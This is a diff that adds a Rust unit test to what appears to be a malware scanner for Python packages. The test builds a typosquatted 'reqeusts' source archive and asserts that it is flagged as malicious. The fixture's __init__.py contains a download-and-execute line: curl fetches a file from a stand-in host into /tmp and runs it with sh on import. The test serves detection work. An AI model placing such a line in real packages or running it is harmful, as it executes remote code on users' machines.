@@ -223,3 +223,35 @@ fn a_squatting_name_is_suspicious_alone_and_malicious_with_install_code() {
     let honest_name = scan("/x/requests-1.0.tar.gz", &sdist("requests", empty));
     assert!(honest_name.findings.iter().all(|f| f.rule != "PKG004"));
 }
+
+#[test]
+fn a_working_copy_of_the_imitated_project_with_code_added_is_named() {
+    let mut members: Vec<(String, Vec<u8>)> = (0..6)
+        .map(|i| {
+            (
+                format!("reqeusts-1.0/requests/m{i}.py"),
+                b"def f():\n    return 1\n".to_vec(),
+            )
+        })
+        .collect();
+    members.push((
+        "reqeusts-1.0/requests/__init__.py".into(),
+        b"import os\nos.system('curl -s http://x.example/a -o /tmp/a && sh /tmp/a')\n".to_vec(),
+    ));
+    members.push((
+        "reqeusts-1.0/PKG-INFO".into(),
+        b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 1.0\n".to_vec(),
+    ));
+    let refs: Vec<(&str, &[u8])> = members
+        .iter()
+        .map(|(p, d)| (p.as_str(), d.as_slice()))
+        .collect();
+    let r = scan("/x/reqeusts-1.0.tar.gz", &targz(&refs));
+    assert!(
+        r.findings.iter().any(|f| f.rule == "TEC012"),
+        "{:?}",
+        r.findings
+    );
+    assert_eq!(r.verdict, VerdictKind::Malicious);
+    assert!(r.techniques.iter().any(|t| t == "behaviour-overlap"));
+}
